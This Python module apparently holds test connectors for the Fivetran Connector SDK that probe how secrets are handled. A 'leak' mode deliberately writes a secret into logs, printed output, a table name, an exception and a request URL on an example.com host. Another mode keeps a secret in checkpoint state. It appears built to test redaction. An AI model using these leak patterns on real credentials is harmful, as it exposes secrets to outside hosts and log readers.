"""Secrets: connectors that use them as they should, and connectors that try everything else."""

import json

import requests
from fivetran_connector_sdk import Logging as log
from fivetran_connector_sdk import Operations as op


def filled(value, configuration):
    """``<name>`` in any text is the value of that name, as the connector sees it."""
    if isinstance(value, str):
        for name, text in configuration.items():
            value = value.replace(f"<{name}>", text)
        return value
    if isinstance(value, list):
        return [filled(item, configuration) for item in value]
    if isinstance(value, dict):
        return {filled(key, configuration): filled(item, configuration) for key, item in value.items()}
    return value


def send(configuration, state):
    """The requests of ``configuration["requests"]``; lands what each gave."""
    for number, wanted in enumerate(json.loads(configuration["requests"])):
        repeat = wanted.pop("repeat", 1)
        wanted = filled(wanted, {name: text for name, text in configuration.items() if name != "requests"})
        if "data" in wanted and isinstance(wanted["data"], str):
            wanted["data"] = wanted["data"] * repeat
        if "auth" in wanted:
            wanted["auth"] = tuple(wanted["auth"])
        row = {"id": number}
        try:
            answer = requests.request(**{"timeout": 20, **wanted})
            if "say" in configuration:
                log.info(f"the answer is {answer.text}")
            row |= {"status": answer.status_code, "text": answer.text, "echo": answer.headers.get("X-Echo")}
        except Exception as error:
            row |= {"error": type(error).__name__, "message": str(error)}
            log.warning(f"request {number}: {error}")
            if "fail" in configuration:
                raise
        op.upsert("sent", row)


def seen(configuration, state):
    """What the connector has of its secrets."""
    wanted = json.loads(configuration["names"])
    op.upsert(
        "seen", {"id": 1, "names": sorted(configuration)} | {name: configuration.get(name) for name in wanted}
    )


def leak(configuration, state):
    """Into every place that people read."""
    value = configuration["thing"]
    log.info(f"it is {value}")
    print("printed", value)
    op.upsert(f"table {value}", {"id": 1})
    try:
        requests.get(f"https://{value}.example.com/{value}", timeout=5)
    except requests.RequestException as error:
        log.warning(str(error))
    raise RuntimeError(f"no luck with {value}")


def state_with_secret(configuration, state):
    op.upsert("rows", {"id": 1})
    op.checkpoint({"cursor": 1, "kept": {"deep": ["x" + configuration["thing"]]}})


MODES = {
    "secret_send": send,
    "secret_seen": seen,
    "secret_leak": leak,
    "secret_state": state_with_secret,
}
